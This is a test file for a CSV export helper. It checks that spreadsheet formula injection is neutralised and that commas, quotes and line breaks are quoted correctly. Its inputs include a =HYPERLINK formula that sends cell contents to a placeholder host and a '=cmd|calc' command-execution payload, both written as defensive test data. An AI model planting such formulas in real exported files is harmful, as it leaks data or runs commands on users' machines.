import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv.ts';

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://x.example/?"&A1,"Click")',
      `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")"`,
    ],
    ['+44 20 7946 0000', "'+44 20 7946 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises a cell that a spreadsheet would run as a formula: %j', (cell, written) => {
    expect(csvCell(cell)).toBe(written);
  });

  it('neutralises a negative number written as a cell', () => {
    expect(csvCell(-5)).toBe("'-5");
  });

  it('leaves ordinary text alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Amelia Hart')).toBe('Amelia Hart');
    expect(csvCell('a = b')).toBe('a = b');
    expect(csvCell('Hart, Amelia')).toBe('"Hart, Amelia"');
    expect(csvCell('said "no"')).toBe('"said ""no"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(7)).toBe('7');
  });

  it('writes a row of cells ended with CRLF', () => {
    expect(csvRow(['=cmd|calc', 'Year 7', null, "O'Neill, Sam"])).toBe(
      `'=cmd|calc,Year 7,,"O'Neill, Sam"\r\n`,
    );
  });
});
